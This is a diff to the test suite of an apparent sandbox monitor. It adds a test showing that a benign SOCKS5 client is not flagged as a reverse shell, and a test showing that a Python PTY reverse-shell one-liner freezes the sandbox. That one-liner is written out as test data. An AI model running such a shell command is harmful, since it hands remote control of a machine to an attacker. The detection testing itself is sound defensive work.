@@ -345,7 +345,7 @@ def test_score_decays(caller, web):
     while len(scores) < 2 and time.time() < deadline:
         for line in caller.run(["ps", "--json"]).stdout.splitlines():
             e = json.loads(line)
-            if e.get("alive") and e.get("findings"):
+            if e.get("alive") and e.get("findings") and e.get("pid") == p.pid:
                 if not scores or time.time() - scores[-1][0] > 2:
                     scores.append((time.time(), e["risk"]))
         time.sleep(0.1)
@@ -828,3 +828,53 @@ def test_canaries_of_a_killed_run_are_swept_by_the_next(caller, web):
     assert r.returncode == 0, r.stderr
     assert not any(d.exists() for d in planted), planted
     assert not set(home.rglob("canary-*")) - before  # and the new run's own are gone too
+
+
+# a benign client that speaks SOCKS5 to the proxy with raw sockets (and says
+# "empty", and runs git) once tripped reverse-shell: critical, T3
+SOCKS5_CLIENT = r"""import socket, struct, subprocess
+h = b"api.example.test"
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"\x05\x01\x00")
+assert s.recv(2) == b"\x05\x00", "empty or refused greeting"
+s.sendall(b"\x05\x01\x00\x03" + bytes([len(h)]) + h + struct.pack(">H", {web}))
+reply = s.recv(10)
+assert reply[1] == 0, "refused"
+s.sendall(b"GET /hello HTTP/1.0\r\nHost: api.example.test\r\n\r\n")
+print("socks5", s.recv(64).split(b"\r\n")[0].decode())
+subprocess.run(["git", "--version"], stdout=subprocess.DEVNULL)
+"""
+
+PTY_REVERSE_SHELL = ("import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",9));"
+                     "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")")
+
+
+def test_socks5_client_with_sockets_is_not_a_reverse_shell(caller, web):
+    code = SOCKS5_CLIENT.replace("{web}", str(web))
+    r, events = run_script(caller, f"python3 -c '{code}'", web)
+    assert r.returncode == 0, (r.stdout, r.stderr)
+    assert "socks5 HTTP/1." in r.stdout, r.stdout
+    assert "reverse-shell" not in fired(events), (fired(events), r.stderr)
+
+
+def test_python_pty_reverse_shell_still_freezes(caller, web):
+    ws = caller.workspace()
+    pol = write_policy(caller, ws, web)
+    p = caller.popen(["run", "-p", pol, "-w", ws, "--", "sh", "-c",
+                      f"python3 -c '{PTY_REVERSE_SHELL}' 2>/dev/null; sleep 30; echo not-stopped"],
+                     cwd=ws, text=True)
+    session = None
+    deadline = time.time() + 60
+    while not session and time.time() < deadline:
+        for line in caller.run(["ps", "--json"]).stdout.splitlines():
+            e = json.loads(line)
+            # other sessions of this user may be frozen too: ours is the
+            # one in our workspace
+            if e.get("frozen") and e.get("alive") and e.get("workspace") == str(ws):
+                session = e["session"]
+        time.sleep(0.2)
+    assert session, "a python pty reverse shell did not freeze the sandbox"
+    assert caller.run(["stop", session]).returncode == 0
+    out, err = p.communicate(timeout=60)
+    assert "not-stopped" not in out
+    assert "reverse-shell" in err and "T0 -> T3" in err, err
